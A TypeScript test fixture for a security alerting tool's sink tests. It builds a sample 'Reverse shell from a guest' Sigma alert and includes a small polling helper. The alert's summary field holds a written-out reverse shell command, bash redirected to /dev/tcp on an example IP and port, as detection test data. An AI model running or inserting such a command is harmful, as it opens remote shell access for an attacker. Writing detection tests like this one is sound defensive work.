// Alerts for the sink tests, and small waiting helpers.

import type { Alert } from "../../src/events/alert.js";

export const SIGMA_ID = "5e4a7b4b-1c2d-4e5f-8a9b-0c1d2e3f4a5b";

export function makeAlert(overrides: Partial<Alert> = {}): Alert {
  return {
    "@timestamp": "2025-01-01T00:00:05.000Z",
    first_seen: "2025-01-01T00:00:00.000Z",
    last_seen: "2025-01-01T00:00:05.000Z",
    count: 3,
    rule: { id: SIGMA_ID, title: "Reverse shell from a guest", source: "sigma", description: "A shell with its stdio on a socket" },
    severity: "high",
    mitre: { tactics: ["execution"], techniques: ["T1059.004"] },
    entity: { kind: "vm", id: "web-1" },
    vm: { name: "web-1", uuid: "00000000-0000-0000-0000-000000000001" },
    host: { name: "host-a" },
    event_ids: ["evt-1", "evt-2", "evt-3"],
    summary: "bash -i >& /dev/tcp/203.0.113.5/4444",
    status: "open",
    ...overrides,
  };
}

export async function until(check: () => boolean, ms: number, what: string): Promise<void> {
  const deadline = Date.now() + ms;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${ms} ms waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}
